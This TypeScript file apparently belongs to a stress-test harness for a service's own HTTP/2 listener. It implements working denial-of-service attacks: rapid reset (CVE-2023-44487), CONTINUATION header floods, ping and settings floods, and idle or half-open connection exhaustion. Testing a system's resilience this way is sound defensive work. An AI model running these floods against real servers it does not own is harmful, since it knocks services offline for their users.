import { type ClientHttp2Session, connect, constants } from "node:http2";
import { FRAME, field, frame, PREFACE, SETTINGS } from "../../test/helpers/http2-frames.ts";
import type { Attack, AttackScenario } from "../scenario.ts";
import { atRate, openSocket, untilEnd } from "./sockets.ts";

/** Attacks on HTTP/2, which the internal listener speaks. */
export const HTTP2: readonly AttackScenario[] = [
  {
    name: "rapid-reset",
    what: "3,000 calls a second that are reset at once (CVE-2023-44487), on 10 connections",
    attackers: [{ credits: 1_000_000, tier: "unlimited" }],
    attack: rapidReset,
  },
  {
    name: "continuation",
    what: "50 connections send headers without an end in CONTINUATION frames",
    attack: continuation,
  },
  {
    name: "pings",
    what: "50 connections send 20,000 pings and settings a second and read nothing",
    attack: pings,
  },
  {
    name: "idle-sessions",
    what: "2,000 HTTP/2 connections without a call, and 1,000 that stop within a frame",
    seconds: 10,
    attack: idleSessions,
  },
  {
    name: "unfinished-headers",
    what: "500 HTTP/2 connections send headers without an end, and nothing more for 25 s",
    seconds: 25,
    mostSockets: 100,
    attack: unfinishedHeaders,
  },
  {
    name: "idle-sessions-full",
    what: "the same, while the internal listener may have 226 connections",
    seconds: 10,
    openFiles: 2_000,
    mostSockets: 400,
    attack: idleSessions,
  },
];

async function rapidReset(attack: Attack): Promise<void> {
  const open = (): ClientHttp2Session => {
    const session = connect(attack.rpcUrl);
    session.on("error", (error) => attack.count(error.message));
    session.on("goaway", (code) => attack.count(`GOAWAY ${code}`));
    return session;
  };
  const sessions = Array.from({ length: 10 }, open);
  await atRate(attack, 3_000, (i) => {
    const at = i % sessions.length;
    const session = sessions[at];
    if (!session || session.closed || session.destroyed) {
      sessions[at] = open();
      return;
    }
    const call = session.request({
      ":method": "POST",
      ":path": "/chorus.v1.GenerationService/Generate",
      "content-type": "application/proto",
      "x-api-key": attack.keys[0] ?? "",
    });
    call.on("error", () => attack.count("stream error"));
    call.close(constants.NGHTTP2_CANCEL);
    attack.count("reset");
  });
}

/** CVE-2024-27983 and its relatives. */
async function continuation(attack: Attack): Promise<void> {
  const large = field("a".repeat(100), "b".repeat(100));
  const more = frame(FRAME.continuation, 0, 1, Buffer.concat(Array.from({ length: 40 }, () => large)));
  const sockets = Array.from({ length: 50 }, () => {
    const socket = openSocket(attack, attack.rpcUrl);
    socket.on("close", () => attack.count("connection closed"));
    socket.write(Buffer.concat([PREFACE, SETTINGS, frame(FRAME.headers, 0, 1, large)]));
    return socket;
  });
  await atRate(attack, 500, (i) => {
    const socket = sockets[i % sockets.length];
    if (socket?.writable) socket.write(more);
  });
}

async function pings(attack: Attack): Promise<void> {
  const both = Buffer.concat([frame(FRAME.ping, 0, 0, Buffer.alloc(8)), SETTINGS]);
  const many = Buffer.concat(Array.from({ length: 200 }, () => both));
  const sockets = Array.from({ length: 50 }, () => {
    const socket = openSocket(attack, attack.rpcUrl);
    socket.on("close", () => attack.count("connection closed"));
    socket.pause();
    socket.write(Buffer.concat([PREFACE, SETTINGS]));
    return socket;
  });
  await atRate(attack, 50, (i) => {
    const socket = sockets[i % sockets.length];
    if (socket?.writable && socket.writableLength < 1e6) socket.write(many);
  });
}

async function idleSessions(attack: Attack): Promise<void> {
  let open = 0;
  await atRate(
    attack,
    500,
    (i) => {
      const socket = openSocket(attack, attack.rpcUrl);
      open++;
      socket.on("close", () => open--);
      socket.write(
        i % 3 === 0 ? Buffer.concat([PREFACE, SETTINGS.subarray(0, 4)]) : Buffer.concat([PREFACE, SETTINGS]),
      );
    },
    3_000,
  );
  await untilEnd(attack);
  attack.count("still open at the end", open);
}

async function unfinishedHeaders(attack: Attack): Promise<void> {
  let open = 0;
  const start = Buffer.concat([PREFACE, SETTINGS, frame(FRAME.headers, 0, 1, field("a", "b"))]);
  for (let i = 0; i < 500; i++) {
    const socket = openSocket(attack, attack.rpcUrl);
    open++;
    socket.on("close", () => open--);
    socket.write(start);
  }
  await untilEnd(attack);
  attack.count("still open at the end", open);
}
